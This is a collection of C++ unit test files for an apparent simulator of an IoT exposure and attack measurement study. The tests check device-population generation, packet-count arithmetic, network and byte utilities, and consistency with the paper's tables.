TEST_F(PopulationLazy, SpecRoundTripMatchesColumns) {
  for (std::uint64_t i = 0; i < std::min<std::uint64_t>(
                                    population_->size(), 64);
       ++i) {
    const DeviceSpec spec = population_->spec_at(i);
    EXPECT_EQ(spec.address, population_->address_at(i));
    EXPECT_EQ(spec.primary, population_->primary_at(i));
    EXPECT_EQ(spec.misconfig, population_->misconfig_at(i));
    EXPECT_EQ(spec.weak_credentials, population_->weak_credentials_at(i));
    EXPECT_EQ(spec.model, population_->model_at(i));
  }
}

}  // namespace
}  // namespace ofh::devices
