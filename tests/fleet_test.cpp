// Fleet scale-safety tests: the background-radiation day count and the
// 64-bit flood plumbing. At telescope_rate_scale = 1 the Telnet pool emits
// 2.7e9 packets/day — past what a 32-bit count holds — so these pin the
// widened arithmetic against regressions.
#include <gtest/gtest.h>

#include <cmath>
#include <type_traits>

#include "attackers/fleet.h"
#include "attackers/probes.h"

namespace ofh::attackers {
namespace {

TEST(BgPacketsToday, PaperScaleTelnetVolumeDoesNotWrap) {
  // 2.7e9 > 2^31: the historical static_cast<int> wrapped this negative
  // and the generator emitted nothing for the day.
  EXPECT_EQ(bg_packets_today(2.7e9), 2'700'000'000ull);
  EXPECT_EQ(bg_packets_today(6e9), 6'000'000'000ull);  // > 2^32 too
}

TEST(BgPacketsToday, TruncatesFractionsLikeTheHistoricalCast) {
  EXPECT_EQ(bg_packets_today(12.9), 12u);
  EXPECT_EQ(bg_packets_today(0.99), 0u);
}

TEST(BgPacketsToday, NonPositiveAndNanEmitNothing) {
  EXPECT_EQ(bg_packets_today(0.0), 0u);
  EXPECT_EQ(bg_packets_today(-5.0), 0u);
  EXPECT_EQ(bg_packets_today(std::nan("")), 0u);
}

// Flood sizes are 64-bit end to end: a narrower parameter would silently
// truncate paper-scale bursts at the call boundary. Pinned at compile time
// so a signature regression fails the build, not a 4-billion-packet test.
static_assert(
    std::is_same_v<decltype(&flood_coap),
                   void (*)(net::Host&, util::Ipv4Addr, std::int64_t)>);
static_assert(
    std::is_same_v<decltype(&flood_ssdp),
                   void (*)(net::Host&, util::Ipv4Addr, std::int64_t)>);

}  // namespace
}  // namespace ofh::attackers
