#include <gtest/gtest.h>

#include <limits>

#include "util/bytes.h"
#include "util/ipv4.h"
#include "util/rng.h"
#include "util/sha256.h"
#include "util/stats.h"
#include "util/strings.h"
#include "util/table.h"

namespace ofh::util {
namespace {

// ------------------------------------------------------------------- ipv4

TEST(Ipv4, FormatsDottedQuad) {
  EXPECT_EQ(Ipv4Addr(192, 0, 2, 1).to_string(), "192.0.2.1");
  EXPECT_EQ(Ipv4Addr(0).to_string(), "0.0.0.0");
  EXPECT_EQ(Ipv4Addr(0xffffffff).to_string(), "255.255.255.255");
}

TEST(Ipv4, ParsesValidAddresses) {
  EXPECT_EQ(Ipv4Addr::parse("10.1.2.3")->value(), Ipv4Addr(10, 1, 2, 3).value());
  EXPECT_EQ(Ipv4Addr::parse("0.0.0.0")->value(), 0u);
  EXPECT_EQ(Ipv4Addr::parse("255.255.255.255")->value(), 0xffffffffu);
}

TEST(Ipv4, RejectsMalformedAddresses) {
  EXPECT_FALSE(Ipv4Addr::parse(""));
  EXPECT_FALSE(Ipv4Addr::parse("1.2.3"));
  EXPECT_FALSE(Ipv4Addr::parse("1.2.3.4.5"));
  EXPECT_FALSE(Ipv4Addr::parse("256.0.0.1"));
  EXPECT_FALSE(Ipv4Addr::parse("1.2.3.x"));
  EXPECT_FALSE(Ipv4Addr::parse("1..2.3"));
}

TEST(Ipv4, OctetAccessor) {
  const Ipv4Addr addr(10, 20, 30, 40);
  EXPECT_EQ(addr.octet(0), 10);
  EXPECT_EQ(addr.octet(1), 20);
  EXPECT_EQ(addr.octet(2), 30);
  EXPECT_EQ(addr.octet(3), 40);
}

TEST(Cidr, NormalizesBaseToPrefixBoundary) {
  const Cidr cidr(Ipv4Addr(10, 1, 2, 3), 16);
  EXPECT_EQ(cidr.base().to_string(), "10.1.0.0");
  EXPECT_EQ(cidr.size(), 65536u);
}

TEST(Cidr, ContainsItsRangeOnly) {
  const Cidr cidr(Ipv4Addr(192, 0, 2, 0), 24);
  EXPECT_TRUE(cidr.contains(Ipv4Addr(192, 0, 2, 0)));
  EXPECT_TRUE(cidr.contains(Ipv4Addr(192, 0, 2, 255)));
  EXPECT_FALSE(cidr.contains(Ipv4Addr(192, 0, 3, 0)));
  EXPECT_FALSE(cidr.contains(Ipv4Addr(192, 0, 1, 255)));
}

TEST(Cidr, SlashZeroCoversEverything) {
  const Cidr cidr(Ipv4Addr(0), 0);
  EXPECT_TRUE(cidr.contains(Ipv4Addr(1, 2, 3, 4)));
  EXPECT_TRUE(cidr.contains(Ipv4Addr(255, 255, 255, 255)));
  EXPECT_EQ(cidr.size(), std::uint64_t{1} << 32);
}

TEST(Cidr, ParseRoundTrip) {
  const auto cidr = Cidr::parse("100.64.0.0/10");
  ASSERT_TRUE(cidr);
  EXPECT_EQ(cidr->to_string(), "100.64.0.0/10");
  EXPECT_FALSE(Cidr::parse("1.2.3.4"));
  EXPECT_FALSE(Cidr::parse("1.2.3.4/33"));
  EXPECT_FALSE(Cidr::parse("bad/8"));
}

TEST(Cidr, FirstLast) {
  const auto cidr = *Cidr::parse("10.0.0.0/8");
  EXPECT_EQ(cidr.first().to_string(), "10.0.0.0");
  EXPECT_EQ(cidr.last().to_string(), "10.255.255.255");
}

// -------------------------------------------------------------------- rng

TEST(Rng, DeterministicForSameSeed) {
  Rng a(123), b(123);
  for (int i = 0; i < 100; ++i) EXPECT_EQ(a.next(), b.next());
}

TEST(Rng, DifferentSeedsDiverge) {
  Rng a(1), b(2);
  int same = 0;
  for (int i = 0; i < 100; ++i) {
    if (a.next() == b.next()) ++same;
  }
  EXPECT_LT(same, 3);
}

TEST(Rng, ForkIsIndependentAndLabelled) {
  Rng base(42);
  Rng fork_a = base.fork("alpha");
  Rng fork_b = base.fork("beta");
  Rng fork_a2 = base.fork("alpha");
  EXPECT_EQ(fork_a.next(), fork_a2.next());
  EXPECT_NE(fork_a.next(), fork_b.next());
}

TEST(Rng, BelowStaysInRange) {
  Rng rng(7);
  for (int i = 0; i < 1000; ++i) {
    EXPECT_LT(rng.below(17), 17u);
  }
}

TEST(Rng, UniformInUnitInterval) {
  Rng rng(9);
  for (int i = 0; i < 1000; ++i) {
    const double u = rng.uniform();
    EXPECT_GE(u, 0.0);
    EXPECT_LT(u, 1.0);
  }
}

TEST(Rng, ChanceExtremes) {
  Rng rng(11);
  for (int i = 0; i < 100; ++i) {
    EXPECT_FALSE(rng.chance(0.0));
    EXPECT_TRUE(rng.chance(1.0));
  }
}

TEST(Rng, WeightedRespectsZeroWeights) {
  Rng rng(13);
  const std::vector<double> weights = {0.0, 1.0, 0.0};
  for (int i = 0; i < 100; ++i) EXPECT_EQ(rng.weighted(weights), 1u);
  EXPECT_EQ(rng.weighted({0.0, 0.0}), 2u);  // all-zero sentinel
}

TEST(Rng, WeightedFollowsDistribution) {
  Rng rng(17);
  const std::vector<double> weights = {1.0, 3.0};
  int second = 0;
  const int trials = 10'000;
  for (int i = 0; i < trials; ++i) {
    if (rng.weighted(weights) == 1) ++second;
  }
  EXPECT_NEAR(second / static_cast<double>(trials), 0.75, 0.03);
}

TEST(Rng, ExponentialHasRequestedMean) {
  Rng rng(19);
  double sum = 0;
  const int trials = 20'000;
  for (int i = 0; i < trials; ++i) sum += rng.exponential(5.0);
  EXPECT_NEAR(sum / trials, 5.0, 0.2);
}

TEST(Rng, RangeInclusive) {
  Rng rng(23);
  bool saw_lo = false, saw_hi = false;
  for (int i = 0; i < 1000; ++i) {
    const auto v = rng.range(3, 5);
    EXPECT_GE(v, 3);
    EXPECT_LE(v, 5);
    saw_lo |= v == 3;
    saw_hi |= v == 5;
  }
  EXPECT_TRUE(saw_lo);
  EXPECT_TRUE(saw_hi);
}

TEST(Hash, Fnv1aMatchesKnownVectors) {
  EXPECT_EQ(fnv1a(""), 0xcbf29ce484222325ULL);
  EXPECT_EQ(fnv1a("a"), 0xaf63dc4c8601ec8cULL);
}

// ------------------------------------------------------------------ bytes

TEST(Bytes, WriterReaderRoundTrip) {
  ByteWriter writer;
  writer.u8(0xab).u16(0x1234).u32(0xdeadbeef).u64(0x0123456789abcdefULL);
  writer.str8("hi").str16("world");
  ByteReader reader(writer.bytes());
  EXPECT_EQ(reader.u8(), 0xab);
  EXPECT_EQ(reader.u16(), 0x1234);
  EXPECT_EQ(reader.u32(), 0xdeadbeefu);
  const auto raw = *reader.raw(8);
  EXPECT_EQ(Bytes(raw.begin(), raw.end()),
            (Bytes{0x01, 0x23, 0x45, 0x67, 0x89, 0xab, 0xcd, 0xef}));
  EXPECT_EQ(reader.str8(), "hi");
  EXPECT_EQ(reader.str16(), "world");
  EXPECT_TRUE(reader.done());
}

TEST(Bytes, ReaderUnderflowReturnsNullopt) {
  const Bytes data = {1, 2};
  ByteReader reader(data);
  EXPECT_TRUE(reader.u16());
  EXPECT_FALSE(reader.u8());
  EXPECT_FALSE(reader.u16());
  EXPECT_FALSE(reader.raw(1));
}

TEST(Bytes, BigEndianOrder) {
  ByteWriter writer;
  writer.u16(0x0102);
  EXPECT_EQ(writer.bytes()[0], 0x01);
  EXPECT_EQ(writer.bytes()[1], 0x02);
}

TEST(Bytes, TextConversionRoundTrip) {
  const auto bytes = to_bytes("abc\xff");
  EXPECT_EQ(to_string(bytes), std::string("abc\xff"));
}

// ----------------------------------------------------------------- sha256

TEST(Sha256, KnownVectors) {
  EXPECT_EQ(Sha256::hex_digest(""),
            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
  EXPECT_EQ(Sha256::hex_digest("abc"),
            "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
  EXPECT_EQ(Sha256::hex_digest(
                "abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq"),
            "248d6a61d20638b8e5c026930c3e6039a33ce45964ff2167f6ecedd419db06c1");
}

TEST(Sha256, IncrementalMatchesOneShot) {
  Sha256 hasher;
  hasher.update("hello ");
  hasher.update("world");
  const auto digest = hasher.digest();
  std::string hex;
  static constexpr char kDigits[] = "0123456789abcdef";
  for (const auto byte : digest) {
    hex.push_back(kDigits[byte >> 4]);
    hex.push_back(kDigits[byte & 0xf]);
  }
  EXPECT_EQ(hex, Sha256::hex_digest("hello world"));
}

TEST(Sha256, LongInputCrossesBlockBoundaries) {
  const std::string input(1000, 'x');
  // Self-consistency at block boundaries: chunked == one-shot.
  Sha256 hasher;
  hasher.update(input.substr(0, 63));
  hasher.update(input.substr(63, 65));
  hasher.update(input.substr(128));
  const auto chunked = hasher.digest();
  Sha256 whole;
  whole.update(input);
  EXPECT_EQ(chunked, whole.digest());
}

// ---------------------------------------------------------------- strings

TEST(Strings, Split) {
  EXPECT_EQ(split("a,b,c", ','), (std::vector<std::string>{"a", "b", "c"}));
  EXPECT_EQ(split("", ','), (std::vector<std::string>{""}));
  EXPECT_EQ(split("a,,c", ','), (std::vector<std::string>{"a", "", "c"}));
  EXPECT_EQ(split("a,", ','), (std::vector<std::string>{"a", ""}));
}

TEST(Strings, Trim) {
  EXPECT_EQ(trim("  x  "), "x");
  EXPECT_EQ(trim("\r\nx\t"), "x");
  EXPECT_EQ(trim("   "), "");
  EXPECT_EQ(trim(""), "");
}

TEST(Strings, CaseHelpers) {
  EXPECT_EQ(to_lower("AbC"), "abc");
  EXPECT_TRUE(icontains("Hello World", "WORLD"));
  EXPECT_FALSE(icontains("Hello", "xyz"));
  EXPECT_TRUE(starts_with("M-SEARCH *", "M-SEARCH"));
  EXPECT_FALSE(starts_with("M", "M-SEARCH"));
}

TEST(Strings, WithCommas) {
  EXPECT_EQ(with_commas(0), "0");
  EXPECT_EQ(with_commas(999), "999");
  EXPECT_EQ(with_commas(1000), "1,000");
  EXPECT_EQ(with_commas(1832893), "1,832,893");
}

TEST(Strings, Percent) {
  EXPECT_EQ(percent(0.27), "27.0%");
  EXPECT_EQ(percent(0.006, 2), "0.60%");
}

TEST(Strings, Hex) {
  EXPECT_EQ(hex({0x00, 0xff, 0x12}), "00ff12");
  EXPECT_EQ(hex({}), "");
}

// ------------------------------------------------------------------ stats

TEST(Counter, RankedOrdersByCountThenKey) {
  Counter counter;
  counter.add("b", 5);
  counter.add("a", 5);
  counter.add("c", 9);
  const auto ranked = counter.ranked();
  ASSERT_EQ(ranked.size(), 3u);
  EXPECT_EQ(ranked[0].first, "c");
  EXPECT_EQ(ranked[1].first, "a");  // tie broken alphabetically
  EXPECT_EQ(ranked[2].first, "b");
  EXPECT_EQ(counter.total(), 19u);
  EXPECT_EQ(counter.distinct(), 3u);
}

TEST(Summary, TracksMinMaxMean) {
  Summary summary;
  summary.add(2);
  summary.add(8);
  summary.add(5);
  EXPECT_EQ(summary.count(), 3u);
  EXPECT_DOUBLE_EQ(summary.mean(), 5.0);
  ASSERT_TRUE(summary.min().has_value());
  ASSERT_TRUE(summary.max().has_value());
  EXPECT_DOUBLE_EQ(*summary.min(), 2.0);
  EXPECT_DOUBLE_EQ(*summary.max(), 8.0);
}

TEST(Summary, EmptySummaryHasNoExtrema) {
  // Regression: min()/max() used to return 0.0 on an empty summary,
  // indistinguishable from a summary that really observed 0.0.
  Summary summary;
  EXPECT_FALSE(summary.min().has_value());
  EXPECT_FALSE(summary.max().has_value());
  summary.add(0.0);
  ASSERT_TRUE(summary.min().has_value());
  EXPECT_DOUBLE_EQ(*summary.min(), 0.0);
  EXPECT_DOUBLE_EQ(*summary.max(), 0.0);
}

TEST(Bytes, ReaderLatchesTypedUnderflow) {
  const Bytes data = {0x01, 0x02, 0x03};
  ByteReader reader(data);
  EXPECT_TRUE(reader.ok());
  EXPECT_TRUE(reader.u16());
  EXPECT_FALSE(reader.u16());  // only one byte left
  EXPECT_FALSE(reader.ok());
  EXPECT_EQ(reader.error(), CodecError::kUnderflow);
  EXPECT_EQ(reader.error_offset(), 2u);
  // First failure wins: the reader stays failed, even for reads that would
  // fit, and never resynchronizes.
  EXPECT_FALSE(reader.u8());
  EXPECT_EQ(reader.position(), 2u);
}

TEST(Bytes, ReaderPeekAndSkip) {
  const Bytes data = {0xaa, 0xbb, 0xcc};
  ByteReader reader(data);
  EXPECT_EQ(reader.peek_u8(), 0xaa);
  EXPECT_EQ(reader.position(), 0u);  // peek does not consume
  EXPECT_TRUE(reader.skip(2));
  EXPECT_EQ(reader.peek_u8(), 0xcc);
  EXPECT_FALSE(reader.skip(2));  // past the end
  EXPECT_EQ(reader.error(), CodecError::kUnderflow);
}

TEST(Bytes, ReaderU24AndU64) {
  ByteWriter writer;
  writer.u24(0x00123456).u64(0x0102030405060708ull);
  ByteReader reader(writer.bytes());
  EXPECT_EQ(reader.u24(), 0x00123456u);
  EXPECT_EQ(reader.u64(), 0x0102030405060708ull);
  EXPECT_TRUE(reader.done());
}

TEST(Bytes, VarintRoundTripAndRejection) {
  for (const std::uint32_t value : {0u, 127u, 128u, 321u, 16383u, 2097151u,
                                    268435455u}) {
    ByteWriter writer;
    writer.varu32(value);
    ByteReader reader(writer.bytes());
    EXPECT_EQ(reader.varu32(), value);
    EXPECT_TRUE(reader.done());
  }
  // Overlong: five continuation digits exceed the 4-digit cap.
  const Bytes overlong = {0x80, 0x80, 0x80, 0x80, 0x01};
  ByteReader long_reader(overlong);
  EXPECT_FALSE(long_reader.varu32());
  EXPECT_EQ(long_reader.error(), CodecError::kBadVarint);
  // Unterminated: buffer ends mid-varint.
  const Bytes unterminated = {0x80, 0x80};
  ByteReader cut_reader(unterminated);
  EXPECT_FALSE(cut_reader.varu32());
  EXPECT_EQ(cut_reader.error(), CodecError::kUnderflow);
}

TEST(Bytes, ExpectMatchesMagics) {
  const Bytes data = {0xff, 'S', 'M', 'B', 0x72};
  const std::uint8_t magic[4] = {0xff, 'S', 'M', 'B'};
  ByteReader reader(data);
  EXPECT_TRUE(reader.expect(magic));
  EXPECT_EQ(reader.u8(), 0x72);

  ByteReader wrong(data);
  EXPECT_FALSE(wrong.expect_text("SMB1"));
  EXPECT_EQ(wrong.error(), CodecError::kMismatch);
  EXPECT_EQ(wrong.position(), 0u);  // mismatch consumes nothing
}

TEST(Bytes, WriterRefusesSilentTruncation) {
  ByteWriter writer;
  writer.str8(std::string(255, 'a'));
  EXPECT_TRUE(writer.ok());
  writer.str8(std::string(256, 'b'));  // does not fit a u8 length prefix
  EXPECT_FALSE(writer.ok());
  EXPECT_EQ(writer.error(), CodecError::kLengthOverflow);
  ByteWriter wide;
  wide.str16(std::string(70000, 'c'));
  EXPECT_EQ(wide.error(), CodecError::kLengthOverflow);
}

TEST(Strings, ParseI64SaturatesInsteadOfUb) {
  EXPECT_EQ(parse_i64("42"), 42);
  EXPECT_EQ(parse_i64("  -17"), -17);
  EXPECT_EQ(parse_i64("+9"), 9);
  EXPECT_EQ(parse_i64("12abc"), 12);
  EXPECT_EQ(parse_i64("abc", -1), -1);
  EXPECT_EQ(parse_i64(""), 0);
  EXPECT_EQ(parse_i64("99999999999999999999999"),
            std::numeric_limits<std::int64_t>::max());
  EXPECT_EQ(parse_i64("-99999999999999999999999"),
            std::numeric_limits<std::int64_t>::min());
}

TEST(Strings, ParseU64SaturatesInsteadOfUb) {
  EXPECT_EQ(parse_u64("1832893"), 1832893u);
  EXPECT_EQ(parse_u64("-5", 7), 7u);  // negative is not a size
  EXPECT_EQ(parse_u64("", 3), 3u);
  EXPECT_EQ(parse_u64("99999999999999999999999"),
            std::numeric_limits<std::uint64_t>::max());
}

TEST(Table, RendersAlignedColumns) {
  Table table({"Name", "Count"});
  table.add_row({"alpha", "1"});
  table.add_row({"b", "22222"});
  const auto out = table.render();
  EXPECT_NE(out.find("| Name "), std::string::npos);
  EXPECT_NE(out.find("| alpha "), std::string::npos);
  EXPECT_NE(out.find("| 22222 "), std::string::npos);
}

}  // namespace
}  // namespace ofh::util
