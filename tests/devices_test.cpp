// Population and device-model tests: deterministic generation, marginal
// distributions (Tables 4/5/10 at scale), address allocation and service
// wiring per misconfiguration.
#include <gtest/gtest.h>

#include <set>

#include "devices/paper_stats.h"
#include "devices/population.h"
#include "test_helpers.h"
#include "util/stats.h"

namespace ofh::devices {
namespace {

using test::SimTest;

PopulationSpec small_spec(double scale = 1.0 / 8'192) {
  PopulationSpec spec;
  spec.seed = 77;
  spec.scale = scale;
  return spec;
}

TEST(Models, Table11RegistryIsConsistent) {
  EXPECT_GE(device_models().size(), 45u);
  for (const auto& model : device_models()) {
    EXPECT_FALSE(model.model.empty());
    EXPECT_FALSE(model.device_type.empty());
    EXPECT_FALSE(model.identifier.empty());
  }
  EXPECT_FALSE(models_for(proto::Protocol::kTelnet).empty());
  EXPECT_FALSE(models_for(proto::Protocol::kUpnp).empty());
  EXPECT_FALSE(models_for(proto::Protocol::kMqtt).empty());
  EXPECT_FALSE(models_for(proto::Protocol::kCoap).empty());
}

TEST(Models, TypeSharesSumToRoughlyOne) {
  for (const auto protocol : proto::scanned_protocols()) {
    double sum = 0;
    for (const auto& share : type_shares(protocol)) sum += share.share;
    EXPECT_NEAR(sum, 1.0, 0.02) << proto::protocol_name(protocol);
  }
}

TEST(Population, BuildIsDeterministic) {
  Population a(small_spec()), b(small_spec());
  a.build();
  b.build();
  ASSERT_EQ(a.size(), b.size());
  for (std::uint64_t i = 0; i < a.size(); ++i) {
    EXPECT_EQ(a.address_at(i), b.address_at(i));
    EXPECT_EQ(a.misconfig_at(i), b.misconfig_at(i));
  }
}

TEST(Population, DifferentSeedsDiffer) {
  auto spec_a = small_spec();
  auto spec_b = small_spec();
  spec_b.seed = 78;
  Population a(spec_a), b(spec_b);
  a.build();
  b.build();
  int differing = 0;
  const auto count = std::min(a.size(), b.size());
  for (std::uint64_t i = 0; i < count; ++i) {
    if (a.address_at(i) != b.address_at(i)) ++differing;
  }
  EXPECT_GT(differing, 0);
}

TEST(Population, AddressesAreUniqueAndInsidePrefixes) {
  Population population(small_spec(1.0 / 2'048));
  population.build();
  std::set<std::uint32_t> seen;
  for (std::uint64_t i = 0; i < population.size(); ++i) {
    const auto address = population.address_at(i);
    EXPECT_TRUE(seen.insert(address.value()).second);
    bool covered = false;
    for (const auto& prefix : population.prefixes()) {
      if (prefix.contains(address)) covered = true;
    }
    EXPECT_TRUE(covered) << address.to_string();
  }
}

TEST(Population, PerProtocolCountsMatchTable4AtScale) {
  Population population(small_spec(1.0 / 2'048));
  population.build();
  for (const auto& row : paper::table4()) {
    EXPECT_EQ(population.count_for(row.protocol),
              population.scaled(row.zmap))
        << proto::protocol_name(row.protocol);
  }
}

TEST(Population, MisconfiguredCountMatchesTable5AtScale) {
  Population population(small_spec(1.0 / 2'048));
  population.build();
  std::uint64_t expected = 0;
  for (const auto& row : paper::table5()) {
    expected += population.scaled(row.devices);
  }
  EXPECT_EQ(population.misconfigured_count(), expected);
}

TEST(Population, InfectedShareIsSmallSubsetOfMisconfigured) {
  Population population(small_spec(1.0 / 512));
  population.build();
  const auto infected = population.infected_count();
  const auto misconfigured = population.misconfigured_count();
  EXPECT_GT(misconfigured, 0u);
  EXPECT_LT(infected, misconfigured / 20);  // paper: ~0.61%
  for (std::uint64_t i = 0; i < population.size(); ++i) {
    if (population.infected_at(i)) {
      EXPECT_TRUE(population.misconfigured_at(i));  // only misconfigured
    }
  }
}

TEST(Population, CountryAllocationFollowsTable10Order) {
  Population population(small_spec(1.0 / 1'024));
  population.build();
  util::Counter countries;
  for (std::uint64_t i = 0; i < population.size(); ++i) {
    countries.add(population.country_at(i));
  }
  // USA should dominate (27% in the paper).
  const auto ranked = countries.ranked();
  ASSERT_FALSE(ranked.empty());
  EXPECT_EQ(ranked[0].first, "USA");
  EXPECT_GT(countries.count("USA"), countries.count("Japan"));
}

TEST(Population, PrefixesAvoidTelescopeAndReservedRanges) {
  Population population(small_spec());
  population.build();
  for (const auto& prefix : population.prefixes()) {
    const auto octet = prefix.base().octet(0);
    EXPECT_NE(octet, 44);   // telescope /8
    EXPECT_NE(octet, 127);  // loopback
    EXPECT_NE(octet, 10);   // never below 11
    EXPECT_LT(octet, 224);  // multicast
  }
}

TEST(Population, AllocateExtraNeverCollides) {
  Population population(small_spec());
  population.build();
  std::set<std::uint32_t> device_addresses;
  for (std::uint64_t i = 0; i < population.size(); ++i) {
    device_addresses.insert(population.address_at(i).value());
  }
  std::set<std::uint32_t> extras;
  for (int i = 0; i < 50; ++i) {
    const auto extra = population.allocate_extra();
    EXPECT_EQ(device_addresses.count(extra.value()), 0u);
    EXPECT_TRUE(extras.insert(extra.value()).second);
  }
}

class DeviceServiceTest : public SimTest {};

TEST_F(DeviceServiceTest, AttachInstallsPrimaryProtocolListener) {
  const struct {
    proto::Protocol protocol;
    Misconfig misconfig;
  } cases[] = {
      {proto::Protocol::kTelnet, Misconfig::kTelnetNoAuth},
      {proto::Protocol::kMqtt, Misconfig::kMqttNoAuth},
      {proto::Protocol::kAmqp, Misconfig::kAmqpNoAuth},
      {proto::Protocol::kXmpp, Misconfig::kXmppAnonymous},
  };
  std::uint32_t addr = 0x0b000001;
  for (const auto& test_case : cases) {
    DeviceSpec spec;
    spec.address = util::Ipv4Addr(addr++);
    spec.primary = test_case.protocol;
    spec.misconfig = test_case.misconfig;
    Device device(std::move(spec));
    device.attach(fabric_);
    bool listening = false;
    for (const auto port : proto::protocol_ports(test_case.protocol)) {
      if (device.tcp().listening(port)) listening = true;
    }
    EXPECT_TRUE(listening) << proto::protocol_name(test_case.protocol);
    device.detach();
  }
}

TEST_F(DeviceServiceTest, UdpDevicesBindTheirPorts) {
  DeviceSpec coap_spec;
  coap_spec.address = util::Ipv4Addr(0x0b010001);
  coap_spec.primary = proto::Protocol::kCoap;
  coap_spec.misconfig = Misconfig::kCoapReflector;
  Device coap_device(std::move(coap_spec));
  coap_device.attach(fabric_);
  EXPECT_TRUE(coap_device.udp().bound(5683));

  DeviceSpec upnp_spec;
  upnp_spec.address = util::Ipv4Addr(0x0b010002);
  upnp_spec.primary = proto::Protocol::kUpnp;
  upnp_spec.misconfig = Misconfig::kUpnpReflector;
  Device upnp_device(std::move(upnp_spec));
  upnp_device.attach(fabric_);
  EXPECT_TRUE(upnp_device.udp().bound(1900));
}

TEST(PaperStats, TotalsAreInternallyConsistent) {
  std::uint64_t table5_sum = 0;
  for (const auto& row : paper::table5()) table5_sum += row.devices;
  EXPECT_EQ(table5_sum, paper::kTable5Total);

  std::uint64_t table6_sum = 0;
  for (const auto& row : paper::table6()) table6_sum += row.instances;
  EXPECT_EQ(table6_sum, paper::kTable6Total);

  // Table 10's rows sum to 1,832,892 — one less than the stated 1.83M
  // total (a rounding artefact in the paper itself).
  std::uint64_t table10_sum = 0;
  for (const auto& row : paper::table10()) table10_sum += row.devices;
  EXPECT_NEAR(static_cast<double>(table10_sum),
              static_cast<double>(paper::kTable5Total), 1.0);

  std::uint64_t table4_sum = 0;
  for (const auto& row : paper::table4()) table4_sum += row.zmap;
  EXPECT_EQ(table4_sum, paper::kTable4ZmapTotal);

  // Table 7's per-row events sum to 200,239 while the paper reports a
  // 200,209 total — the 30-event discrepancy is in the original table.
  std::uint64_t table7_sum = 0;
  for (const auto& row : paper::table7()) table7_sum += row.events;
  EXPECT_NEAR(static_cast<double>(table7_sum),
              static_cast<double>(paper::kTable7Total), 30.0);

  EXPECT_EQ(paper::kInfectedHoneypotsOnly + paper::kInfectedTelescopeOnly +
                paper::kInfectedBoth,
            paper::kInfectedTotal);
}

}  // namespace
}  // namespace ofh::devices
