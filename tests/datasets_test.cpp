// Open-dataset tests: coverage models, Telnet port restriction (Project
// Sonar's 23-only scanning) and scan correlation.
#include <gtest/gtest.h>

#include "datasets/open_datasets.h"

namespace ofh::datasets {
namespace {

using proto::Protocol;

std::unique_ptr<devices::Population> make_population(
    double scale = 1.0 / 1'024) {
  devices::PopulationSpec spec;
  spec.seed = 5;
  spec.scale = scale;
  auto population = std::make_unique<devices::Population>(spec);
  population->build();
  return population;
}

TEST(CoverageModels, SonarPublishesFourProtocols) {
  const auto sonar = project_sonar_model();
  EXPECT_EQ(sonar.coverage.count(Protocol::kAmqp), 0u);  // NA in Table 4
  EXPECT_EQ(sonar.coverage.count(Protocol::kXmpp), 0u);
  EXPECT_EQ(sonar.coverage.count(Protocol::kTelnet), 1u);
  EXPECT_FALSE(sonar.telnet_includes_2323);
}

TEST(CoverageModels, ShodanPublishesAllSix) {
  const auto shodan = shodan_model();
  for (const auto protocol : proto::scanned_protocols()) {
    EXPECT_EQ(shodan.coverage.count(protocol), 1u)
        << proto::protocol_name(protocol);
  }
  // Shodan's Telnet coverage is tiny (blocklisted crawlers).
  EXPECT_LT(shodan.coverage.at(Protocol::kTelnet), 0.05);
  EXPECT_GT(shodan.coverage.at(Protocol::kCoap), 0.9);
}

TEST(Snapshot, CoverageFractionIsRespected) {
  auto population_ptr = make_population();
  auto& population = *population_ptr;
  const auto sonar =
      generate_snapshot(project_sonar_model(), population, 99);

  const auto exposed_mqtt = population.count_for(Protocol::kMqtt);
  const auto in_sonar = sonar.unique_hosts(Protocol::kMqtt);
  const double fraction =
      static_cast<double>(in_sonar) / static_cast<double>(exposed_mqtt);
  EXPECT_NEAR(fraction, 0.810, 0.05);  // Table 4 ratio
  EXPECT_FALSE(sonar.has_protocol(Protocol::kAmqp));
}

TEST(Snapshot, SonarNeverListsPort2323Hosts) {
  auto population_ptr = make_population();
  auto& population = *population_ptr;
  const auto sonar =
      generate_snapshot(project_sonar_model(), population, 99);
  for (const auto& entry : sonar.entries()) {
    if (entry.protocol == Protocol::kTelnet) {
      EXPECT_EQ(entry.port, 23);
    }
  }
}

TEST(Snapshot, ShodanListsAlternateTelnetPort) {
  auto population_ptr = make_population(1.0 / 256);
  auto& population = *population_ptr;
  const auto shodan = generate_snapshot(shodan_model(), population, 99);
  // With ~3.4% coverage over ~28k telnet hosts, at least a handful of 2323
  // hosts should appear.
  std::uint64_t on_2323 = 0;
  for (const auto& entry : shodan.entries()) {
    if (entry.protocol == Protocol::kTelnet && entry.port == 2323) ++on_2323;
  }
  EXPECT_GT(on_2323, 0u);
}

TEST(Snapshot, GenerationIsDeterministicPerSeed) {
  auto population_ptr = make_population();
  auto& population = *population_ptr;
  const auto a = generate_snapshot(shodan_model(), population, 1);
  const auto b = generate_snapshot(shodan_model(), population, 1);
  const auto c = generate_snapshot(shodan_model(), population, 2);
  EXPECT_EQ(a.entries().size(), b.entries().size());
  EXPECT_NE(a.entries().size(), 0u);
  // A different seed samples a different subset (sizes may coincide, the
  // host sets should not).
  std::size_t same = 0;
  const auto count = std::min(a.entries().size(), c.entries().size());
  for (std::size_t i = 0; i < count; ++i) {
    if (a.entries()[i].host == c.entries()[i].host) ++same;
  }
  EXPECT_LT(same, count);
}

TEST(Correlate, ComputesOverlap) {
  auto population_ptr = make_population();
  auto& population = *population_ptr;
  const auto shodan = generate_snapshot(shodan_model(), population, 99);

  // Pretend our scan found every exposed CoAP host.
  std::set<std::uint32_t> ours;
  for (std::uint64_t i = 0; i < population.size(); ++i) {
    if (population.primary_at(i) == Protocol::kCoap) {
      ours.insert(population.address_at(i).value());
    }
  }
  const auto result = correlate(ours, shodan, Protocol::kCoap);
  EXPECT_EQ(result.ours, ours.size());
  EXPECT_EQ(result.overlap, result.theirs);  // snapshot ⊆ ground truth
  EXPECT_GT(result.overlap, 0u);
}

}  // namespace
}  // namespace ofh::datasets
