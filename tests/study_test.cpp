// End-to-end study integration tests at small scale: every phase of the
// pipeline, plus the measurement-validation properties (recall against
// ground truth) that a real measurement study could never check.
#include <gtest/gtest.h>

#include <limits>

#include "core/reports.h"
#include "core/study.h"
#include "devices/paper_stats.h"

namespace ofh::core {
namespace {

